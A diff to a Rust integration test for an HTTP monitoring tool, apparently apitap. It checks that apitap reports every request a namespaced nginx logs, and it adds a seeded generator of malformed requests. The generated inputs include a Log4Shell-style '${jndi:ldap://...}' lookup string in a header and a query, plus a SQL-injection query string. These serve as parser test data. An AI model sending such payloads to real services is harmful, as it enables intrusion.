@@ -21,14 +21,14 @@ use serde_json::Value;
 const PORT: u16 = 80;
 const SRV: &str = "10.231.7.1";
 
-/// Two namespaces (`ph<pid>-s`, `ph<pid>-c`) joined by a veth pair; removed on drop.
+/// Two namespaces (`ph<pid><x>-s`, `ph<pid><x>-c`) joined by a veth pair; removed on drop.
 struct Net {
     tag: String,
 }
 
 impl Net {
-    fn up() -> Net {
-        let tag = format!("ph{}", std::process::id() % 100_000);
+    fn up(which: char) -> Net {
+        let tag = format!("ph{}{which}", std::process::id() % 100_000);
         let net = Net { tag };
         net.down();
         let (s, c, t) = (net.srv(), net.cli(), &net.tag);
@@ -174,18 +174,20 @@ http {{
     (p, log)
 }
 
-/// Send `segs` on one connection (a short pause between them, so they are separate
-/// segments), read until nginx closes or goes quiet; returns the client port.
+/// Send `segs` on one connection as separate segments (no Nagle, a short pause between
+/// them), half-close, and read until nginx closes (bounded in time); returns the client port.
 fn send(segs: &[Vec<u8>]) -> u16 {
     let mut s = TcpStream::connect((SRV, PORT)).expect("connect");
     let port = s.local_addr().expect("addr").port();
-    s.set_read_timeout(Some(Duration::from_millis(300))).expect("timeout");
+    let _ = s.set_nodelay(true);
+    s.set_read_timeout(Some(Duration::from_millis(1500))).expect("timeout");
     for seg in segs {
         if s.write_all(seg).is_err() {
             break;
         }
-        std::thread::sleep(Duration::from_millis(15));
+        std::thread::sleep(Duration::from_millis(2));
     }
+    let _ = s.shutdown(std::net::Shutdown::Write);
     let mut buf = [0u8; 65536];
     let t = Instant::now();
     while t.elapsed() < Duration::from_secs(3) {
@@ -201,8 +203,8 @@ fn b(s: &str) -> Vec<u8> {
     s.as_bytes().to_vec()
 }
 
-fn cases() -> Vec<(&'static str, Vec<Vec<u8>>)> {
-    let mut v: Vec<(&'static str, Vec<Vec<u8>>)> = vec![
+fn cases() -> Vec<(String, Vec<Vec<u8>>)> {
+    let mut v: Vec<(&str, Vec<Vec<u8>>)> = vec![
         (
             "two-letter first method",
             vec![
@@ -268,29 +270,41 @@ fn cases() -> Vec<(&'static str, Vec<Vec<u8>>)> {
         pipe.extend(format!("GET /index.html?pipelined={i} HTTP/1.1\r\nHost: a\r\n\r\n").as_bytes());
     }
     v.push(("100 pipelined requests", vec![pipe]));
-    v
+    v.into_iter().map(|(n, c)| (n.to_string(), c)).collect()
 }
 
-#[test]
-fn every_request_nginx_logged_is_an_apitap_transaction() {
+fn skip() -> bool {
     if unsafe { libc::geteuid() } != 0 {
         eprintln!("SKIPPED: http_parity needs root (network namespaces, tcpdump)");
-        return;
+        return true;
     }
     for t in ["nginx", "tcpdump", "ip"] {
         if !have(t) {
             eprintln!("SKIPPED: http_parity needs {t} (.ci/run installs it)");
-            return;
+            return true;
         }
     }
+    false
+}
+
+struct Outcome {
+    logged: usize,
+    /// Requests nginx logged that apitap did not report, with their case.
+    missing: Vec<String>,
+    events: Vec<Value>,
+}
+
+/// Send every case (on `threads` client threads) to nginx in namespaces `which`, capture,
+/// replay, and match nginx's log against apitap's `http` events.
+fn run_parity(which: char, cases: Vec<(String, Vec<Vec<u8>>)>, threads: usize, keep: &str) -> Outcome {
     let dir = tempfile::tempdir().expect("tmp");
-    let net = Net::up();
+    let net = Net::up(which);
     let (_nginx, log) = nginx(&net, dir.path());
     let cap = dir.path().join("parity.pcap");
     let mut dump = Proc(
         Command::new("ip")
             .args(["netns", "exec", &net.srv(), "tcpdump", "-i", &format!("{}s0", net.tag)])
-            .args(["--immediate-mode", "-U", "-n", "-s", "0", "-w"])
+            .args(["--immediate-mode", "-U", "-n", "-s", "0", "-B", "16384", "-w"])
             .arg(&cap)
             .arg(format!("tcp port {PORT}"))
             .stdout(Stdio::null())
@@ -310,16 +324,34 @@ fn every_request_nginx_logged_is_an_apitap_transaction() {
     }
     std::thread::sleep(Duration::from_millis(200));
     let _ = std::fs::write(&log, "");
-    let ports: Vec<(u16, &str)> = net.in_cli(|| cases().into_iter().map(|(name, segs)| (send(&segs), name)).collect());
+    let names: Vec<String> = cases.iter().map(|c| c.0.clone()).collect();
+    let shared = std::sync::Arc::new(std::sync::Mutex::new(cases.into_iter().enumerate().collect::<Vec<_>>()));
+    let ports: Vec<(u16, usize)> = net.in_cli(move || {
+        let workers: Vec<_> = (0..threads.max(1))
+            .map(|_| {
+                let q = shared.clone();
+                std::thread::spawn(move || {
+                    let mut got = Vec::new();
+                    loop {
+                        let next = q.lock().map(|mut v| v.pop()).unwrap_or(None);
+                        let Some((i, (_, segs))) = next else { break };
+                        got.push((send(&segs), i));
+                    }
+                    got
+                })
+            })
+            .collect();
+        workers.into_iter().flat_map(|w| w.join().unwrap_or_default()).collect()
+    });
     std::thread::sleep(Duration::from_millis(1000));
     unsafe { libc::kill(dump.0.id() as i32, libc::SIGINT) };
     let _ = dump.0.wait();
 
-    if let Some(keep) = std::env::var_os("HTTP_PARITY_KEEP") {
+    if let Some(k) = std::env::var_os("HTTP_PARITY_KEEP") {
         // to compare another build by hand: the capture and nginx's log
-        let keep = PathBuf::from(keep);
-        let _ = std::fs::copy(&cap, keep.join("parity.pcap"));
-        let _ = std::fs::copy(&log, keep.join("parity.access.jsonl"));
+        let k = PathBuf::from(k);
+        let _ = std::fs::copy(&cap, k.join(format!("{keep}.pcap")));
+        let _ = std::fs::copy(&log, k.join(format!("{keep}.access.jsonl")));
     }
     let logged: Vec<Value> = std::fs::read_to_string(&log)
         .expect("access log")
@@ -381,7 +413,10 @@ fn every_request_nginx_logged_is_an_apitap_transaction() {
                 http.remove(i);
             }
             None => {
-                let case = ports.iter().find(|(p, _)| u64::from(*p) == want.0).map_or("?", |c| c.1);
+                let case = ports
+                    .iter()
+                    .find(|(p, _)| u64::from(*p) == want.0)
+                    .map_or("?", |c| names[c.1].as_str());
                 let got: Vec<_> = http.iter().filter(|h| h.0 == want.0).collect();
                 missing.push(format!(
                     "{case}: {want:?}; apitap on that connection: {:?}",
@@ -390,25 +425,208 @@ fn every_request_nginx_logged_is_an_apitap_transaction() {
             }
         }
     }
+    Outcome {
+        logged: logged.len(),
+        missing,
+        events,
+    }
+}
+
+#[test]
+fn every_request_nginx_logged_is_an_apitap_transaction() {
+    if skip() {
+        return;
+    }
+    let n = cases().len();
+    let o = run_parity('a', cases(), 1, "parity");
     eprintln!(
-        "http_parity: nginx logged {} requests over {} connections; apitap matched {}",
-        logged.len(),
-        ports.len(),
-        logged.len() - missing.len()
+        "http_parity: nginx logged {} requests over {n} connections; apitap matched {}",
+        o.logged,
+        o.logged - o.missing.len()
     );
-    assert!(logged.len() >= 140, "nginx logged only {} requests", logged.len());
+    assert!(o.logged >= 140, "nginx logged only {} requests", o.logged);
     assert!(
-        missing.is_empty(),
+        o.missing.is_empty(),
         "requests nginx logged that apitap did not report:\n{}",
-        missing.join("\n")
+        o.missing.join("\n")
     );
     // the JNDI payload behind a control byte reached the transaction's headers
     assert!(
-        events
+        o.events
             .iter()
             .any(|e| e["http"]["request_headers"].as_array().is_some_and(|h| h
                 .iter()
                 .any(|h| h["value"].as_str().is_some_and(|v| v.contains("${jndi:"))))),
         "X-Api-Version with a trailing DEL is in the event's headers"
+    );
+}
+
+/// xorshift64*: a fixed seed gives the same cases on every run.
+struct Rng(u64);
+
+impl Rng {
+    fn next(&mut self) -> u64 {
+        self.0 ^= self.0 >> 12;
+        self.0 ^= self.0 << 25;
+        self.0 ^= self.0 >> 27;
+        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
+    }
+
+    fn below(&mut self, n: usize) -> usize {
+        (self.next() % n.max(1) as u64) as usize
+    }
+
+    fn pick<'a, T>(&mut self, v: &'a [T]) -> &'a T {
+        &v[self.below(v.len())]
+    }
+
+    fn chance(&mut self, percent: usize) -> bool {
+        self.below(100) < percent
+    }
+}
+
+/// One generated connection: 1-5 requests from a small grammar (methods, versions, spaces,
+/// line ends, control bytes in values, padded heads, Content-Length or chunked bodies with
+/// leading zeros, upper-case hex and extensions, HTTP/0.9), cut into segments at random points.
+fn generated_case(r: &mut Rng, n: usize) -> (String, Vec<Vec<u8>>) {
+    const METHODS: &[&str] = &[
+        "GET",
+        "GET",
+        "GET",
+        "POST",
+        "POST",
+        "HEAD",
+        "PUT",
+        "DELETE",
+        "OPTIONS",
+        "PATCH",
+        "AB",
+        "PROPFIND",
+        "XYZZYXYZZYXYZZYXYZZYX",
+    ];
+    const TARGETS: &[&str] = &[
+        "/index.html",
+        "/api/users.json",
+        "/missing",
+        "/index.html?q=1'%20OR%201=1--",
+        "/api/users.json?u=${jndi:ldap://x/a}",
+        "/a%20b",
+    ];
+    const VERSIONS: &[&str] = &[
+        "HTTP/1.1",
+        "HTTP/1.1",
+        "HTTP/1.1",
+        "HTTP/1.1",
+        "HTTP/1.0",
+        "HTTP/1.2",
+        "HTTP/1.9",
+        "HTTP/1.01",
+    ];
+    let mut wire = Vec::new();
+    let mut what = Vec::new();
+    for k in 0..1 + r.below(5) {
+        let method = *r.pick(METHODS);
+        let target = format!("{}{}g{n}k{k}", r.pick(TARGETS), if r.chance(50) { "?" } else { "#" });
+        let target = target.replace('#', if target.contains('?') { "&" } else { "?" });
+        if k == 0 && r.chance(3) {
+            // HTTP/0.9: nginx answers and closes
+            wire.extend(format!("GET {target}\r\n").as_bytes());
+            what.push("0.9".to_string());
+            break;
+        }
+        let version = *r.pick(VERSIONS);
+        let sp = if r.chance(15) { "  " } else { " " };
+        let trail = if r.chance(10) { " " } else { "" };
+        let eol = if r.chance(10) { "\n" } else { "\r\n" };
+        wire.extend(format!("{method}{sp}{target}{sp}{version}{trail}{eol}Host: a{eol}").as_bytes());
+        let mut tags = vec![method.to_string(), version.to_string()];
+        if r.chance(10) {
+            let c = *r.pick(&[0x01u8, 0x07, 0x0b, 0x1f, 0x7f]);
+            wire.extend(b"X-Api-Version: ${jndi:ldap://x/a}");
+            wire.push(c);
+            wire.extend(eol.as_bytes());
+            tags.push(format!("ctl{c:02x}"));
+        }
+        if r.chance(8) {
+            let pad = 1000 + r.below(40_000);
+            for i in 0..pad / 4000 + 1 {
+                wire.extend(format!("X-Pad-{i}: {}{eol}", "p".repeat(pad.min(4000))).as_bytes());
+            }
+            tags.push(format!("pad{pad}"));
+        }
+        let body: Vec<u8> = (0..r.below(300)).map(|i| b'a' + (i % 26) as u8).collect();
+        let has_body = matches!(method, "POST" | "PUT" | "PATCH") && version != "HTTP/1.0";
+        if has_body && r.chance(50) {
+            wire.extend(format!("Transfer-Encoding: chunked{eol}{eol}").as_bytes());
+            let mut rest = &body[..];
+            while !rest.is_empty() {
+                let take = 1 + r.below(rest.len());
+                let zeros = "0".repeat(r.below(14));
+                let hex = if r.chance(50) {
+                    format!("{take:X}")
+                } else {
+                    format!("{take:x}")
+                };
+                let ext = if r.chance(20) { ";ext=1" } else { "" };
+                wire.extend(format!("{zeros}{hex}{ext}\r\n").as_bytes());
+                wire.extend(&rest[..take]);
+                wire.extend(b"\r\n");
+                rest = &rest[take..];
+            }
+            wire.extend(format!("{}0\r\n\r\n", "0".repeat(r.below(5))).as_bytes());
+            tags.push("chunked".into());
+        } else if has_body {
+            wire.extend(format!("Content-Length: {}{eol}{eol}", body.len()).as_bytes());
+            wire.extend(&body);
+            tags.push("cl".into());
+        } else {
+            wire.extend(eol.as_bytes());
+        }
+        what.push(tags.join(","));
+    }
+    let mut cuts: Vec<usize> = (0..r.below(5)).map(|_| r.below(wire.len())).collect();
+    cuts.sort_unstable();
+    cuts.dedup();
+    let mut segs = Vec::new();
+    let mut at = 0;
+    for c in cuts.into_iter().chain([wire.len()]) {
+        if c > at {
+            segs.push(wire[at..c].to_vec());
+            at = c;
+        }
+    }
+    (format!("case {n} [{}]", what.join(" | ")), segs)
+}
+
+/// The differential harness: generated request shapes (HTTP_PARITY_CASES, default 300;
+/// HTTP_PARITY_SEED, default fixed) against nginx; every request nginx logged must be an
+/// apitap transaction with the same method, target and status.
+#[test]
+fn generated_request_shapes_match_what_nginx_logged() {
+    if skip() {
+        return;
+    }
+    let env = |k: &str, d: u64| std::env::var(k).ok().and_then(|v| v.parse().ok()).unwrap_or(d);
+    let n = env("HTTP_PARITY_CASES", 300) as usize;
+    let seed = env("HTTP_PARITY_SEED", 0x5eed_0012);
+    let mut r = Rng(seed | 1);
+    let cases: Vec<_> = (0..n).map(|i| generated_case(&mut r, i)).collect();
+    let t = Instant::now();
+    let o = run_parity('b', cases, 8, "generated");
+    let anomalies = o.events.iter().filter(|e| e["event_type"] == "anomaly").count();
+    eprintln!(
+        "http_parity generated: seed {seed:#x}, {n} connections, nginx logged {} requests, apitap matched {}, \
+         {} anomaly events, {:.1} s",
+        o.logged,
+        o.logged - o.missing.len(),
+        anomalies,
+        t.elapsed().as_secs_f64()
+    );
+    assert!(o.logged >= n, "nginx logged only {} requests", o.logged);
+    assert!(
+        o.missing.is_empty(),
+        "{} requests nginx logged that apitap did not report:\n{}",
+        o.missing.len(),
+        o.missing[..o.missing.len().min(30)].join("\n")
     );
 }
